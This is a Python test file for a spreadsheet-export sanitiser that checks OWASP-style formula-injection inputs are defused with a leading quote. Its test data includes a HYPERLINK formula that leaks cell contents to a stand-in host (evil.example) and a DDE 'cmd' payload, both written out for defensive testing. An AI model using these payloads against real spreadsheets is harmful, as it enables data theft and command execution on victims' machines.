"""Cell rules: OWASP's formula triggers, joined and cut values."""

from __future__ import annotations

import pytest

from leaddesk.export.cells import join_values, neutralise, truncate


@pytest.mark.parametrize(("value", "expected"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("\n=1", "'\n=1"),
    ("+49 30 1234567", "'+49 30 1234567"),  # the documented price: phone numbers too
    ("a=1", "a=1"),  # only the first character counts
    (" =1", " =1"),
    ("", ""),
    (None, ""),
    (42, "42"),
    ("'already quoted", "'already quoted"),
])
def test_neutralise(value: str | int | None, expected: str) -> None:
    assert neutralise(value) == expected


def test_join_and_truncate() -> None:
    assert join_values(["cold", "hot"]) == "cold; hot"
    assert join_values([]) == ""
    assert truncate("abcdef", 4) == "abc…"
    assert truncate("abcd", 4) == "abcd"
    assert truncate(None, 4) is None
